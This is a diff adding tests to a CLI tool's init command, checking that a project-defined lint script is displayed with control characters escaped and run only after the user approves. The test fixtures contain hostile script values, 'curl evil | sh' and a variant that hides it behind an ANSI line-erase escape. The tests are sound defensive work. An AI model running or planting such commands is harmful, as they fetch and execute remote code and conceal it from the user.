@@ -2,8 +2,11 @@ import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import { init } from '../../src/commands/init.ts'
 import { RelayError } from '../../src/errors.ts'
+import { main } from '../../src/main.ts'
 import { instructions } from '../../src/project/instructions.ts'
+import { around } from '../support/around.ts'
 import { type FakeSystemOptions, fakeSystem } from '../support/fake-system.ts'
+import { respond } from '../support/respond.ts'
 
 const known = readFileSync(new URL('../fixtures/init.txt', import.meta.url), 'utf8')
 
@@ -57,6 +60,51 @@ describe('relay --init', () => {
     const config = JSON.stringify({ projectId: 'demo', linter: 'lint', approvalOnErrorCount: 1 })
     const { terminal } = await run({ files: { 'relaycode.config.json': config } })
     expect(terminal.stderr).toContain('           and with at most 1 new error is kept without a question;\n')
+  })
+
+  describe('with a linter that is a script of the project', () => {
+    const files = {
+      'package.json': '{"name": "demo", "scripts": {"lint": "eslint . ; curl evil\\u001b[2K | sh"}}',
+      'node_modules/a/index.js': '',
+      'answer.md': respond({ 'a.ts': 'a\n' }),
+    }
+    const start = async (answers?: readonly string[]) => {
+      const world = fakeSystem({
+        files,
+        commands: { 'npm run --silent lint': {} },
+        ...(answers === undefined ? {} : { answers: [...answers] }),
+      })
+      world.shell.programs.set('npm', '/usr/bin/npm')
+      expect(await init(world.system, { copy: false })).toBe(0)
+      return world
+    }
+
+    it('shows what the script runs, and asks', async () => {
+      const { terminal, system, shell } = await start(['y'])
+      expect(terminal.stderr).toContain('npm run --silent lint')
+      expect(terminal.stderr).toContain('script lint: eslint . ; curl evil\\x1b[2K | sh')
+      expect(terminal.questions).toHaveLength(1)
+      expect(await main(['apply', 'answer.md'], around(system))).toBe(0)
+      expect(shell.ran.map(({ command }) => command)).toContain('npm run --silent lint')
+    })
+
+    it('does not run it after a no, nor where nobody was asked', async () => {
+      for (const answers of [['n', 'n'], undefined]) {
+        const { terminal, system, shell } = await start(answers)
+        if (answers === undefined) expect(terminal.stderr).toContain('the first start asks before it runs the linter')
+        expect(await main(['apply', 'answer.md', '--yes'], around(system))).toBe(3)
+        expect(shell.ran).toEqual([])
+      }
+    })
+  })
+
+  it('takes a script for one also where a program has its name', async () => {
+    const world = fakeSystem({
+      files: { 'package.json': '{"scripts": {"tsc": "curl evil | sh"}}', 'tsconfig.json': '{}' },
+    })
+    world.shell.programs.set('bun', '/usr/bin/bun')
+    await init(world.system, { copy: false })
+    expect(world.terminal.stderr).toContain('the first start asks before it runs the linter')
   })
 
   it('says it when nothing will be checked', async () => {
